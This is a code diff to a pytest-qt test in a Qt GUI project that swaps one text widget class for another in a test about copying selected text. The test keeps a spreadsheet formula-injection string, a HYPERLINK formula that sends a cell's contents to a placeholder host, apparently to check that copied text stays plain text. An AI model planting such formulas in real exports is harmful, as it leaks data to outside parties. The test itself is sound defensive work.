@@ -5,7 +5,7 @@ from PySide6.QtGui import QGuiApplication, QTextCursor
 from pytestqt.qtbot import QtBot
 
 from nexgui.ui.widgets.copying import copy_text, text_mime
-from nexgui.ui.widgets.phrase_text import PhraseBrowser, SelectableText
+from nexgui.ui.widgets.phrase_text import FittedText, PhraseBrowser
 
 FORMULA = '=HYPERLINK("http://example.invalid/"&A1)'
 
@@ -23,10 +23,8 @@ def test_other_words_are_nothing_but_words() -> None:
 
 
 @pytest.mark.usefixtures("dressed_app")
-@pytest.mark.parametrize("kind", [SelectableText, PhraseBrowser])
-def test_so_it_is_in_what_is_selected_of_a_text(
-    qtbot: QtBot, kind: type[SelectableText | PhraseBrowser]
-) -> None:
+@pytest.mark.parametrize("kind", [FittedText, PhraseBrowser])
+def test_so_it_is_in_what_is_selected_of_a_text(qtbot: QtBot, kind: type[PhraseBrowser]) -> None:
     view = kind()
     qtbot.addWidget(view)
     view.setHtml(f"<p>備考</p><p>{FORMULA}</p>")
